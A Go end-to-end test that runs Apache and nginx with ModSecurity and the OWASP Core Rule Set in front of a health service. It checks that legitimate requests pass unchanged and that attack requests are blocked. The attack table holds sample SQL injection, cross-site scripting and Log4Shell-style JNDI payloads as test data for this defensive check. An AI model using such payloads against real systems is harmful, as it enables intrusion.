//go:build e2e

package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// waf is a web server with ModSecurity. It passes what the rules let through on
// to a healthd.
type waf struct {
	name        string
	module      string
	recommended string   // ModSecurity's settings, as Debian recommends them
	command     []string // its last argument is the configuration
	config      string   // %[1]s is a folder, %[2]s:%[3]s where it listens, %[4]s healthd
}

var apacheWAF = waf{
	name:        "apache",
	module:      "/usr/lib/apache2/modules/mod_security2.so",
	recommended: "/etc/modsecurity/modsecurity.conf-recommended",
	command:     []string{"apache2", "-DFOREGROUND", "-f"},
	config: `
		ServerRoot %[1]s
		ServerName localhost
		PidFile pid
		Mutex file:%[1]s
		ErrorLog /dev/stderr
		Listen %[2]s:%[3]s
		User www-data
		Group www-data
		LoadModule mpm_event_module /usr/lib/apache2/modules/mod_mpm_event.so
		LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
		LoadModule proxy_module /usr/lib/apache2/modules/mod_proxy.so
		LoadModule proxy_http_module /usr/lib/apache2/modules/mod_proxy_http.so
		LoadModule unique_id_module /usr/lib/apache2/modules/mod_unique_id.so
		LoadModule security2_module /usr/lib/apache2/modules/mod_security2.so
		Include modsecurity.conf
		ProxyPass / http://%[4]s/
	`,
}

var nginxWAF = waf{
	name:        "nginx",
	module:      "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so",
	recommended: "/etc/nginx/modsecurity.conf",
	command:     []string{"nginx", "-e", "stderr", "-c"},
	config: `
		load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;
		daemon off; worker_processes 1; pid %[1]s/pid; error_log stderr info; user www-data;
		events {}
		http {
			access_log off;
			client_body_temp_path %[1]s/body; proxy_temp_path %[1]s/proxy; fastcgi_temp_path %[1]s/fastcgi;
			uwsgi_temp_path %[1]s/uwsgi; scgi_temp_path %[1]s/scgi;
			modsecurity on;
			modsecurity_rules_file %[1]s/modsecurity.conf;
			server {
				listen %[2]s:%[3]s;
				location / { proxy_pass http://%[4]s; }
			}
		}
	`,
}

// start starts it with a rule set at paranoia level 4, the strictest, and so
// that the least match blocks. more are rules that come before those of the set.
func (w waf) start(t *testing.T, set ruleSet, target, more string) (addr string) {
	t.Helper()
	if _, err := os.Stat(w.module); err != nil {
		t.Fatalf("%v: apt-get install libapache2-mod-security2 libnginx-mod-http-modsecurity", err)
	}
	recommended, err := os.ReadFile(w.recommended)
	if err != nil {
		t.Fatal(err)
	}
	dir, port := publicDir(t), freePort(t)
	set.copy(t, dir)
	if err := os.Chmod(dir, 0o777); err != nil { // for what www-data keeps there
		t.Fatal(err)
	}
	rules := strings.NewReplacer(
		"SecRuleEngine DetectionOnly", "SecRuleEngine On",
		"SecStatusEngine On", "SecStatusEngine Off", // it would look up a name
		"SecAuditEngine RelevantOnly", "SecAuditEngine Off",
		"Dir /tmp/", "Dir "+dir,
		"unicode.mapping", "/etc/modsecurity/unicode.mapping",
	).Replace(string(recommended))
	// The level's name is the first of these in CRS 3, and the next two in CRS 4.
	rules += fmt.Sprintf(`
		SecAction "id:1,phase:1,nolog,pass,setvar:tx.paranoia_level=4,\
			setvar:tx.blocking_paranoia_level=4,setvar:tx.detection_paranoia_level=4,\
			setvar:tx.inbound_anomaly_score_threshold=1,setvar:tx.outbound_anomaly_score_threshold=1"
		Include %[1]s/crs-setup.conf
		%[2]s
		Include %[1]s/rules/*.conf
	`, dir, more)
	config := dir + "/server.conf"
	for name, content := range map[string]string{
		dir + "/modsecurity.conf": rules,
		config:                    fmt.Sprintf(w.config, dir, targetHost, port, target),
	} {
		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	p := spawn(t, nil, nil, program(t, w.command[0]), append(w.command[1:], config)...)
	addr = targetHost + ":" + port
	eventually(t, w.name+" listens", func() bool {
		select {
		case <-p.exited:
			t.Fatal(w.name + " is gone before it listens")
		default:
		}
		conn, err := net.Dial("tcp", addr)
		if err == nil {
			conn.Close()
		}
		return err == nil
	})
	return addr
}

// ruleSet is an OWASP Core Rule Set. copy makes crs-setup.conf and the folder
// rules out of it, in dir.
type ruleSet struct {
	name string
	copy func(t *testing.T, dir string)
}

var crs3 = ruleSet{"CRS 3", func(t *testing.T, dir string) {
	t.Helper()
	copyRules(t, dir, "/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules")
}}

// Debian 12 has no package of CRS 4, but a Go module holds it as published.
var crs4 = ruleSet{"CRS 4", func(t *testing.T, dir string) {
	t.Helper()
	var module struct{ Dir string }
	out := goCommand(t, "mod", "download", "-json", "github.com/corazawaf/coraza-coreruleset/v4@v4.25.0")
	if err := json.Unmarshal([]byte(out), &module); err != nil {
		t.Fatal(err)
	}
	copyRules(t, dir, module.Dir+"/rules/@crs-setup.conf.example", module.Dir+"/rules/@owasp_crs")
}}

func copyRules(t *testing.T, dir, setup, rules string) {
	t.Helper()
	files, err := filepath.Glob(rules + "/*")
	if err != nil || len(files) == 0 {
		t.Fatalf("no rules in %s (%v): apt-get install modsecurity-crs", rules, err)
	}
	if err := os.Mkdir(dir+"/rules", 0o755); err != nil {
		t.Fatal(err)
	}
	to := map[string]string{setup: dir + "/crs-setup.conf"}
	for _, file := range files {
		to[file] = dir + "/rules/" + filepath.Base(file)
	}
	for from, to := range to {
		text, err := os.ReadFile(from)
		if err != nil {
			t.Fatal(err)
		}
		if filepath.Ext(to) == ".conf" {
			// libmodsecurity 3.0.9 stumbles over a rule without actions that no
			// empty line follows, and the module has none.
			text = []byte(strings.ReplaceAll(string(text), "\nSec", "\n\nSec"))
		}
		if err := os.WriteFile(to, text, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// send sends a request as it stands. whole is all of the answer but what speaks
// of the connection or of the server in front.
func send(t *testing.T, addr, request string) (code int, body, whole string) {
	t.Helper()
	conn := dial(t, addr)
	fmt.Fprint(conn, request)
	method, _, _ := strings.Cut(request, " ")
	resp, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: method})
	if err != nil {
		return 0, "", err.Error()
	}
	content, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"Connection", "Date", "Keep-Alive", "Server"} {
		resp.Header.Del(name)
	}
	return resp.StatusCode, string(content), fmt.Sprintf("%s %q %q", resp.Status, resp.Header, content)
}

func TestModSecurityPassesHealthdsAnswersUnchangedAndBlocksAttacks(t *testing.T) {
	exclusions, err := os.ReadFile("../deploy/modsecurity.conf")
	if err != nil {
		t.Fatal(err)
	}
	const (
		named  = "Host: example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
		bare   = "Host: 192.0.2.1\r\n"
		script = bare + "User-Agent: python-requests/2.32.3\r\n"
		nobody = "Content-Length: 0\r\n"
		sql    = "?id=1%27%20OR%20%271%27=%271"
		xss    = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
	)
	basic, aksk, key := newPair(), newPair(), newKey()
	lock := []string{"HEALTHD_AUTH=basic,aksk,jwt", "HEALTHD_BASIC=" + basic, "HEALTHD_AKSK=" + aksk, "HEALTHD_JWT_SECRET=" + key, "HEALTHD_DRAIN=1m"}
	user, keys, token := authorization("basic", basic), authorization("aksk", aksk), authorization("jwt", key)

	type row struct {
		name    string
		request string // without the empty line at its end
		code    int    // healthd's own, and what comes through the exclusions
		mended  bool   // the rule set alone blocks it
	}
	serving := []row{
		{"Basic", "GET /health HTTP/1.1\r\n" + named + user, 200, false},
		{"access keys", "GET /health HTTP/1.1\r\n" + named + keys, 200, false},
		{"a token", "GET /health HTTP/1.1\r\n" + named + token, 200, false},
		{"no credential", "GET /health HTTP/1.1\r\n" + named, 401, false},
		{"a wrong token", "GET /health HTTP/1.1\r\n" + named + authorization("jwt", newKey()), 403, false},
		{"a check of an IP address with no Accept and no User-Agent", "GET /health HTTP/1.1\r\n" + bare + user, 200, true},
		{"the same with HEAD", "HEAD /health HTTP/1.1\r\n" + bare + user, 200, true},
		{"a script's check", "GET /health HTTP/1.1\r\n" + script + user, 200, true},
		{"a check by HTTP/1.0 without Host", "GET /health HTTP/1.0\r\n" + user, 200, true},
		{"POST /token", "POST /token HTTP/1.1\r\n" + named + nobody, 401, false},
		{"POST /token to an IP address without Content-Length", "POST /token HTTP/1.1\r\n" + bare, 401, true},
		{"a script's POST /token", "POST /token HTTP/1.1\r\n" + script + nobody, 401, true},
	}
	attacks := []row{
		{"SQL in the query of /health", "GET /health" + sql + " HTTP/1.1\r\n" + named + user, 403, true},
		{"a script in the query of /health", "GET /health" + xss + " HTTP/1.1\r\n" + named + user, 403, true},
		{"SQL in the query of /token", "POST /token" + sql + " HTTP/1.1\r\n" + named + nobody, 403, true},
		{"a script in the query of /token", "POST /token" + xss + " HTTP/1.1\r\n" + named + nobody, 403, true},
		{"an attack in a header", "GET /health HTTP/1.1\r\n" + named + user + "X-Access-Key: ${jndi:ldap://192.0.2.1/a}\r\n", 403, true},
		{"a check of another path", "GET /healthz HTTP/1.1\r\n" + bare + user, 403, true},
	}
	for _, server := range []waf{apacheWAF, nginxWAF} {
		leaving := []row{
			// nginx has sent the status before ModSecurity judges the answer.
			{"draining", "GET /health HTTP/1.1\r\n" + named + user, 503, server.name == "apache"},
			{"draining, a check", "GET /health HTTP/1.1\r\n" + bare + user, 503, true},
		}
		for _, set := range []ruleSet{crs3, crs4} {
			t.Run(server.name+" with "+set.name, func(t *testing.T) {
				i := start(t, lock)
				with, without := server.start(t, set, i.addr, string(exclusions)), server.start(t, set, i.addr, "")
				passes := func(rows []row) {
					t.Helper()
					for _, r := range rows {
						code, _, own := send(t, i.addr, r.request+"\r\n")
						if _, _, got := send(t, with, r.request+"\r\n"); code != r.code || got != own {
							t.Errorf("%s: %s\nhealthd itself, wanted with %d: %s", r.name, got, r.code, own)
						}
						if code, _, got := send(t, without, r.request+"\r\n"); r.mended && code != 403 || !r.mended && got != own {
							t.Errorf("%s, without the exclusions: %s", r.name, got)
						}
					}
				}
				passes(serving)
				for _, r := range attacks {
					if code, _, got := send(t, with, r.request+"\r\n"); code != r.code {
						t.Errorf("%s: %s", r.name, got)
					}
				}
				code, body, _ := send(t, with, "POST /token HTTP/1.1\r\n"+bare+user+"\r\n")
				if _, err := verify(body, key); code != 200 || err != nil {
					t.Errorf("POST /token with a credential: %d, %v", code, err)
				}
				i.signal(t, syscall.SIGTERM)
				eventually(t, "it says that it drains", func() bool { return strings.Contains(i.stderr.String(), "msg=draining") })
				passes(leaving)
			})
		}
	}
}
